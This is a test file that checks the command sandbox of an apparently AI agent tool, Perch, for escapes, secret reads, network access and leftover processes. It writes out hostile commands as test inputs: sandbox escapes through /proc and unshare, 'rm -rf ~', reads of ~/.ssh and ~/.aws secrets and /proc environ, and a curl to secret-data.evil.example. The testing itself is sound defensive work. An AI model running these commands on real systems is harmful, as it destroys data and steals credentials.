import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { createServer as createSocketServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { portOf } from "../support/port-of.ts";
import { createSandboxBench, type SandboxBench } from "../support/sandbox-bench.ts";

/*
 * The machine's own sandbox: what a command may not do does not happen, and what it may do works.
 */

/** No other test on this machine makes a file, or a process, with it. */
const mark = `escaped-${process.pid}`;
const ownerScript = join(import.meta.dirname, "../support/sandbox-owner.ts");
const long = 40_000_000 + process.pid;

/** Processes whose command line holds the words; those that have ended count for nothing. */
function running(words: string): readonly string[] {
  return readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => lineOf(pid).includes(words));
}

function lineOf(pid: string): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "latin1").replaceAll("\0", " ");
  } catch {
    // It has ended since.
    return "";
  }
}

describe("a confined command writes nothing outside", () => {
  const attempts: readonly (readonly [string, (bench: SandboxBench) => string])[] = [
    ["by its path", ({ bench }) => `echo x > ${bench.outside}/${mark}`],
    ["by ..", () => `echo x > ../out/${mark}`],
    ["through a link that it makes", ({ bench }) => `ln -s ${bench.outside} l && echo x > l/${mark}`],
    ["through a link that was there", () => `echo x > linked/${mark}`],
    ["by the root of /proc", ({ bench }) => `echo x > /proc/1/root${bench.outside}/${mark}`],
    ["by the folder of a process", ({ bench }) => `cd /proc/self/cwd/.. && echo x > ${bench.outside}/${mark}`],
    ["by mounting", ({ bench }) => `mount -o remount,rw / ; echo x > ${bench.outside}/${mark}`],
    [
      "in namespaces of its own",
      ({ bench }) => `unshare -Urm sh -c 'mount -o remount,rw,bind / ; echo x > ${bench.outside}/${mark}'`,
    ],
    ["by a hard link", ({ bench }) => `ln ${bench.outside}/kept hard && echo changed > hard`],
    ["in Node", ({ bench }) => `node -e 'fs.writeFileSync("${bench.outside}/${mark}", "x")'`],
    ["in the home folder", () => `echo x > ~/${mark}`],
    ["in the system's temp folder", () => `echo x > ${tmpdir()}/${mark}`],
    ["by renaming the work folder's parent", ({ bench }) => `mv ${bench.base} ${bench.base}-moved`],
  ];

  it("in whatever way it is tried", async () => {
    const own = await createSandboxBench();
    const { base, outside } = own.bench;
    await symlink(outside, own.bench.at("linked"));
    await writeFile(join(outside, "kept"), "kept");
    const places = [outside, own.userHome, tmpdir()];
    const escaped: string[] = [];
    for (const [how, attempt] of attempts) {
      await own.run(attempt(own));
      const isKept = existsSync(base) && readFileSync(join(outside, "kept"), "utf8") === "kept";
      if (!isKept || places.some((place) => existsSync(join(place, mark)))) escaped.push(how);
    }
    expect(escaped).toEqual([]);
  });

  it("nor deletes there by a folder that is named like the home folder", async () => {
    const { bench, run, userHome } = await createSandboxBench();
    await mkdir(bench.at("~"));
    await writeFile(bench.at("~", "a"), "");
    await run("rm -rf *; rm -rf ~/.aws ~");
    expect(readdirSync(userHome)).toContain(".aws");
    expect(readFileSync(join(userHome, ".aws", "secret"), "utf8")).toBe("canary-secret");
    expect(readdirSync(bench.work)).toEqual([]);
  });
});

describe("what acts by itself in the work folder", () => {
  async function repository() {
    const own = await createSandboxBench();
    execFileSync("git", ["init", "-q", own.bench.work]);
    await mkdir(own.bench.at("sub", ".vscode"), { recursive: true });
    for (const name of [".mcp.json", ".bashrc", "AGENTS.md"]) await writeFile(own.bench.at(name), "as it was");
    return own;
  }

  it("stays as it is, however a command goes about it", async () => {
    const { bench, run } = await repository();
    const config = readFileSync(bench.at(".git", "config"), "utf8");
    const commands = [
      "echo x > .git/hooks/pre-commit",
      "git config core.fsmonitor /tmp/x",
      "mv .git .g && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
      "rm -rf .git/hooks && mkdir .git/hooks && echo x > .git/hooks/pre-commit",
      "echo x > .mcp.json",
      "rm .mcp.json && echo x > .mcp.json",
      "mv .mcp.json m && echo x > .mcp.json",
      "echo x > .bashrc",
      "sed -i s/as/is/ AGENTS.md",
      "echo x > sub/.vscode/tasks.json",
      "mv sub s && mkdir -p sub/.vscode && echo x > sub/.vscode/tasks.json",
    ];
    for (const command of commands) expect(await run(command), command).toMatchObject({ kind: "failed" });
    expect(readFileSync(bench.at(".git", "config"), "utf8")).toBe(config);
    expect(existsSync(bench.at(".git", "hooks", "pre-commit"))).toBe(false);
    expect(existsSync(bench.at("sub", ".vscode", "tasks.json"))).toBe(false);
    for (const name of [".mcp.json", ".bashrc", "AGENTS.md"]) {
      expect(readFileSync(bench.at(name), "utf8")).toBe("as it was");
    }
  });

  it("is told of where a command made it", async () => {
    const { run } = await createSandboxBench();
    const result = await run(
      "echo '{}' > .mcp.json; mkdir .vscode; echo '{}' > .vscode/tasks.json; echo '{}' > package.json",
    );
    expect(result).toMatchObject({ kind: "done", details: { acting: [".mcp.json", ".vscode"] } });
  });

  it("git itself works beside it", async () => {
    const { bench, content } = await repository();
    const author = "-c user.name=a -c user.email=a@example.com";
    await writeFile(bench.at("notes.md"), "hello");
    const said = await content(
      `git add -A && git ${author} commit -qm first && git status --short && git log --oneline`,
    );
    expect(said).toMatch(/^[0-9a-f]+ first\n\[Exit status 0\]$/);
  });
});

describe("a confined command does not read", () => {
  it("what the home folder keeps secret", async () => {
    const { content } = await createSandboxBench();
    const commands = [
      "cat ~/.ssh/secret ~/.aws/secret ~/.netrc",
      "cat ~/.mozilla/firefox/secret ~/.local/share/keyrings/secret",
      "grep -r canary ~",
      "ln -s ~/.ssh l; cat l/secret; ln ~/.ssh/secret h; cat h",
      "cat /proc/1/root$HOME/.ssh/secret; cat /proc/self/root$HOME/.aws/secret",
    ];
    for (const command of commands) expect(await content(command), command).not.toContain("canary-");
  });

  it("Perch's own home, but for skills and long results, which it cannot change", async () => {
    const { content, home, run } = await createSandboxBench();
    expect(
      await content(`cat ${home}/secrets.json ${home}/workspace/sessions/*; grep -r canary ${home}`),
    ).not.toContain("canary");
    expect(await content(`cat ${home}/workspace/skills/greet/SKILL.md ${home}/workspace/.results/long.txt`)).toMatch(
      /^how to greeta long result/,
    );
    await run(`echo x > ${home}/workspace/skills/greet/SKILL.md; echo x > ${home}/config.json; rm -rf ${home}`);
    expect(readFileSync(join(home, "workspace", "skills", "greet", "SKILL.md"), "utf8")).toBe("how to greet");
    expect(existsSync(join(home, "config.json"))).toBe(false);
    expect(readFileSync(join(home, "secrets.json"), "utf8")).toBe("canary-secret");
  });

  it("the environment of the process that it came from, or of any other of the machine", async () => {
    process.env["MADE_UP_CANARY"] = "canary-environment";
    onTestFinished(() => void delete process.env["MADE_UP_CANARY"]);
    const { content } = await createSandboxBench();
    expect(await content(`cat /proc/*/environ /proc/${process.pid}/environ /proc/$PPID/environ; env`)).not.toContain(
      "canary-environment",
    );
  });
});

describe("a confined command reaches nothing of the network", () => {
  it("no server of this computer, no name, and is told so", async () => {
    let hits = 0;
    const server = createServer((_request, response) => {
      hits++;
      response.end("reached");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => void server.close());
    const at = `http://127.0.0.1:${portOf(server)}/hit`;
    const { content, run } = await createSandboxBench();
    const said = await content(
      `curl -sS --max-time 5 ${at}; curl -sS --max-time 5 --noproxy '*' ${at}; curl -sS -x "$HTTP_PROXY" ${at}; getent hosts secret-data.evil.example || echo no name`,
    );
    expect(hits).toBe(0);
    expect(said).toContain("no name");
    expect(said).not.toContain("reached");
    expect(await run("curl -sS --max-time 5 http://secret-data.evil.example/x; exit 1")).toMatchObject({
      kind: "failed",
      message: expect.stringContaining("The sandbox kept this command from reaching secret-data.evil.example"),
      details: { refused: [{ kind: "host", host: "secret-data.evil.example" }] },
    });
  });

  it("no socket of another program, Perch's own among them", async () => {
    const own = await createSandboxBench();
    const paths = [join(own.home, "owner.sock"), own.bench.at("in-work.sock")];
    let connected = 0;
    for (const path of paths) {
      const server = createSocketServer((socket) => {
        connected++;
        socket.end("reached");
      });
      await new Promise<void>((resolve) => server.listen(path, resolve));
      onTestFinished(() => void server.close());
      await own.run(`node -e 'net.connect("${path}").on("error", () => 0)'; echo x | socat - UNIX-CONNECT:${path}`);
    }
    expect(connected).toBe(0);
  });
});

describe("nothing is left", () => {
  it("of what a command started, wherever it went", async () => {
    const { run } = await createSandboxBench();
    const commands: readonly (readonly [string, number])[] = [
      [`sleep ${long} & disown; (trap '' TERM; exec sleep ${long}) & sleep ${long}`, 2],
      [`setsid sleep ${long} & sleep 0.1`, 20],
      [`env -i setsid sleep ${long} & env -i setsid sh -c 'sleep ${long} & sleep ${long}' & sleep 0.1`, 20],
      [`node -e 'child_process.spawn("sleep", ["${long}"], { detached: true, stdio: "ignore" }).unref()'`, 20],
    ];
    for (const [command, timeoutSeconds] of commands) {
      await run(command, { timeoutSeconds });
      expect(running(`sleep ${long}`), command).toEqual([]);
    }
  });

  it("of the sandbox, once Perch lets go of it", async () => {
    const { folder, sandbox } = await inOwnTemp();
    expect(running(folder)).not.toEqual([]);
    await sandbox[Symbol.asyncDispose]();
    expect(running(folder)).toEqual([]);
    expect(readdirSync(folder)).toEqual([]);
  });

  it("of either, after a Perch that was killed", async () => {
    const folder = mkdtempSync(join(tmpdir(), "perch-killed-"));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const env = { PATH: process.env["PATH"] ?? "", HOME: folder, TMPDIR: folder };
    const owner = spawn(process.execPath, [ownerScript, folder, `sleep ${long}`], {
      env,
      stdio: ["ignore", "pipe", "inherit"],
    });
    await Promise.race([once(owner.stdout, "data"), once(owner, "exit")]);
    expect(running(`sleep ${long}`)).not.toEqual([]);
    owner.kill("SIGKILL");
    await vi.waitFor(() => expect(running(folder)).toEqual([]), { timeout: 20_000 });
    await vi.waitFor(() => expect(readdirSync(folder).filter((name) => name.startsWith("perch-sandbox"))).toEqual([]));
    expect(running(`sleep ${long}`)).toEqual([]);
  });
});

/** A sandbox whose temp folder nobody else uses, so that all in it is its own. */
async function inOwnTemp() {
  const own = await createSandboxBench();
  const before = process.env["TMPDIR"];
  const folder = join(own.bench.base, "temp");
  await mkdir(folder);
  process.env["TMPDIR"] = folder;
  try {
    await own.run("true");
  } finally {
    if (before === undefined) delete process.env["TMPDIR"];
    else process.env["TMPDIR"] = before;
  }
  return { folder, sandbox: own.sandbox };
}

describe("a confined command does what commands do", () => {
  it("in its folder, with pipes, exit statuses, signals, its own temp folder and words of any script", async () => {
    const { bench, content, run } = await createSandboxBench();
    await mkdir(bench.at("sub"));
    expect(await content("pwd; echo héllo 你好 > ../a.txt; cat ../a.txt", { folder: "sub" })).toBe(
      `${bench.at("sub")}\nhéllo 你好\n[Exit status 0]`,
    );
    expect(await content("printf 'b\\na\\n' | sort | head -1")).toBe("a\n[Exit status 0]");
    expect(await run("exit 7")).toMatchObject({ kind: "failed", details: { exitCode: 7 } });
    expect(await content("kill -TERM $$")).toContain("143");
    expect(await content('echo x > "$TMPDIR/x" && cat "$TMPDIR/x" && mktemp')).toMatch(/^x\n.*perch-sandbox-/);
    expect(await content("node -e 'console.log(6 * 7)'")).toContain("42\n");
    expect(await content("python3 -c 'print(6 * 7)'")).toContain("42\n");
    expect(await content('echo $FOO"it\'s"; echo "a  b"; echo \'$HOME\'')).toBe("it's\na  b\n$HOME\n[Exit status 0]");
  });

  it("with two megabytes of output and a command of fifty kilobytes", async () => {
    const { content } = await createSandboxBench();
    expect(await content("head -c 2000000 /dev/zero | tr '\\0' x | tee big | wc -c")).toBe("2000000\n[Exit status 0]");
    expect((await content("cat big")).length).toBeGreaterThan(200_000);
    expect(await content(`echo ${"x".repeat(50_000)} | wc -c`)).toBe("50001\n[Exit status 0]");
  });

  it("ended at its time limit with all that it started", async () => {
    const { content } = await createSandboxBench();
    expect(await content(`sleep ${long} & sleep ${long}`, { timeoutSeconds: 1 })).toContain("time limit of 1 second");
    expect(running(`sleep ${long}`)).toEqual([]);
  });

  it("side by side", async () => {
    const { content } = await createSandboxBench();
    const said = await Promise.all([1, 2, 3, 4].map((number) => content(`echo ${number} > ${number}; cat ${number}`)));
    expect(said).toEqual([1, 2, 3, 4].map((number) => `${number}\n[Exit status 0]`));
  });
});
